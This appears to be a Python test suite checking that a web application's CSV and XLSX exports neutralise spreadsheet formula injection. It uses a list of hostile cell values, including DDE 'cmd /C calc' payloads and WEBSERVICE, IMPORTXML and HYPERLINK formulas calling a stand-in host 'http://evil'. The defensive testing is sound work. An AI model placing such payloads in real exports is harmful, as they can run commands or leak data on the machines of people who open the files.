"""Formula injection: 420 hostile texts go out through every export and come back as texts, in two spreadsheets."""

from __future__ import annotations

import csv
import io
import itertools
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import String, Text, insert, select, update

from models import (
    Account,
    AuditEntry,
    Citation,
    Comparator,
    Contract,
    HandshakeEvent,
    Indicator,
    Invitation,
    Job,
    KeyTechnology,
    Meeting,
    Need,
    Organization,
    Programme,
    Project,
    Role,
    SensitiveWord,
    Source,
    Synonym,
)
from service.chain import chain
from service.context import Context
from service.policy import ROUTES
from service.reports.cells import csv_text, is_risky
from tests.attachments.conftest import app_client, browse
from tests.doors.conftest import Browser
from tests.factories import add_contract, add_entry, add_invitation, add_meeting, add_need, add_project
from tests.parts import ONLY_SQLITE, need_part

__all__ = ["app_client", "browse"]
STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "  +", "\u3000=", "\u00a0@", "'=", '"=', "=\t",
    "\ufeff=", "\u200b=",
)  # fmt: skip
BODIES = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil","点我")', 'DDE("cmd";"/C calc";"x")', "A1", "1", "-1",
    'IMPORTXML("http://evil","//a")', 'WEBSERVICE("http://evil/"&A1)', r"MSEXCEL|'\..\..\cmd.exe'!''", "10+20+cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A", 'IMAGE("http://evil")', 'INDIRECT("A1")', "@A1", "{1}", "甲乙", '"""&A1', "1;2,3\t4",
    'EXEC("calc")',
)  # fmt: skip
HOSTILE = [start + body for start, body in itertools.product(STARTS, BODIES)]
KEPT_AS_THEY_ARE = {
    "uscc",
    "email",
    "registration_number",
    "code",
    "path",
    "seed_key",
    "seed_digest",
    "scheme",
    "digest",
}
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BEFORE = " \t\r\n\u3000\u00a0\ufeff\u200b\"'"


def _fill(ctx: Context) -> int:
    """A row of every kind that a list shows, each text column in turn with the next hostile text; how many went in."""
    project = add_project(ctx)
    add_contract(ctx, project=project)
    add_entry(ctx, project=project, evidence=HOSTILE[0], note=HOSTILE[1])
    add_meeting(ctx)
    add_invitation(ctx)
    need = add_need(ctx)
    ctx.add(Source(key="S1", title="文件"))
    ctx.add(Citation(source_key="S1", record_type="Need", record_id=need.id, origin_key="N1", evidence="原文"))
    ctx.add(KeyTechnology(number="1", industry="氢能", name="电解水"))
    ctx.add(Programme(subtype="plan", name="计划"))
    ctx.add(
        Indicator(name="指标", value_text="百余次", comparator=Comparator.EQUAL, kind="result", region_code="150600")
    )
    ctx.add(SensitiveWord(word="提示词"))
    ctx.add(Synonym(words=HOSTILE[:5]))
    ctx.add(Job(name="=1+1", payload={}, last_error=HOSTILE[2], run_at=ctx.now, created_at=ctx.now))
    chain(ctx.session, [AuditEntry(at=ctx.now, actor_name=text, action=text, details={text: text}) for text in HOSTILE[:9]], ctx.settings)  # fmt: skip
    ctx.flush()
    like = dict(ctx.session.execute(select(Need.__table__).where(Need.id == need.id)).one()._mapping)
    del like["id"]
    ctx.session.execute(insert(Need), [{**like, "title": text, "masked_name": text[:90]} for text in HOSTILE])
    texts, written = itertools.cycle(HOSTILE), 2 * len(HOSTILE)
    for model in (HandshakeEvent, Meeting, Project, Contract, Organization, Invitation, Source, Citation, KeyTechnology, Programme, Indicator, Account):  # fmt: skip
        table = model.__table__
        columns = [
            column for column in table.columns
            if type(column.type) in (String, Text) and not column.primary_key and not column.foreign_keys
            and column.key not in KEPT_AS_THEY_ARE and not column.key.endswith(("_hash", "_secret", "_type", "_key", "subject"))
        ]  # fmt: skip
        key = next(iter(table.primary_key))
        for row in ctx.session.scalars(select(key)).all():
            values: dict[str, Any] = {
                column.key: next(texts)[: getattr(column.type, "length", None) or 1000] for column in columns
            }
            if values:
                ctx.session.execute(update(table).where(key == row).values(values))
            written += len(values)
    ctx.session.expire_all()
    return written


NO_LISTS = {
    "/report.{form}",
    "/account/data.{form}",
    "/admin/incidents/{incident_id:int}/affected.{form}",
    "/events/{event_id:int}/letters.{form}",
}
"""Files that are no plain list, or letters on paper: the report is looked at below; the others go through the same writers of cells."""


def _addresses() -> list[str]:
    """The address of every list that can be carried out as a file."""
    paths = sorted(
        path for method, path in ROUTES if method == "GET" and path.endswith(".{form}") and path not in NO_LISTS
    )
    return [path.replace("{key}", "S1").removesuffix(".{form}") for path in paths]


def _values(content: bytes) -> Iterator[Any]:
    for sheet in load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            yield from row


def _plain(text: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")


@ONLY_SQLITE
def test_no_export_carries_a_formula(ctx: Context, browse: Callable[..., Browser]) -> None:
    written = _fill(ctx)
    askers: list[TestClient] = [
        browse(role=role).client for role in (Role.ADMIN, Role.SECURITY, Role.AUDITOR, Role.ORGANIZER)
    ]
    exports = cells = formulas = bare = 0
    seen: dict[str, set[str]] = {"xlsx": set(), "csv": set()}
    silent = []

    for address in _addresses():
        for form in ("xlsx", "csv"):
            answer = next(
                (one for client in askers if (one := client.get(f"{address}.{form}")).status_code == 200), None
            )
            if answer is None:
                silent.append(address)
                continue
            exports += 1
            if form == "xlsx":
                for cell in _values(answer.content):
                    cells += 1
                    formulas += cell.data_type == "f"
                    if isinstance(cell.value, str):
                        seen["xlsx"].add(_plain(cell.value))
                        bare += cell.value.lstrip(BEFORE).startswith(RUNS) and not cell.quotePrefix
            else:
                for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")):
                    for value in row:
                        cells += 1
                        risky = value.lstrip(BEFORE).startswith(RUNS)
                        number = value.lstrip("-").replace(".", "").isdigit()
                        formulas += risky and not number and not value.startswith("'")
                        seen["csv"].add(_plain(value.removeprefix("'")))

    print(f"texts: {len(HOSTILE)} written {written} times; exports: {exports}, cells: {cells}, formulas: {formulas}")
    assert silent == []
    assert exports >= 30
    assert (formulas, bare) == (0, 0)
    lost = {form: [text for text in HOSTILE if _plain(text) not in values] for form, values in seen.items()}
    assert lost == {"xlsx": [], "csv": []}


@ONLY_SQLITE
def test_another_spreadsheet_finds_no_formula_either(
    ctx: Context, browse: Callable[..., Browser], tmp_path: Path
) -> None:
    need_part("soffice")
    _fill(ctx)
    organizer = browse(role=Role.ORGANIZER).client
    (tmp_path / "needs.csv").write_bytes(organizer.get("/needs.csv").content)
    (tmp_path / "unguarded.csv").write_text("=1+1,2\n", encoding="utf-8-sig")
    # as Excel reads it: separated by commas, UTF-8, formulas evaluated
    reading = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    files = [str(tmp_path / name) for name in ("needs.csv", "unguarded.csv")]
    convert = ["soffice", profile, "--headless", reading, "--convert-to", "xlsx", "--outdir", str(tmp_path / "read")]
    subprocess.run([*convert, *files], check=True, capture_output=True, timeout=180)

    found = {path.stem: list(_values(path.read_bytes())) for path in sorted((tmp_path / "read").glob("*.xlsx"))}
    formulas = {name: [cell.value for cell in cells if cell.data_type == "f"] for name, cells in found.items()}
    read = {str(cell.value).removeprefix("'") for cell in found["needs"]}

    print({name: (len(cells), len(formulas[name])) for name, cells in found.items()})
    assert formulas["needs"] == []
    assert formulas["unguarded"] == ["=1+1"]
    assert sum(_plain(text) in {_plain(one) for one in read} for text in HOSTILE) >= 400


@pytest.mark.parametrize("text", HOSTILE[:: len(BODIES)])
def test_each_beginning_is_guarded(text: str) -> None:
    assert is_risky(text)
    assert csv_text(text) == f"'{text}"
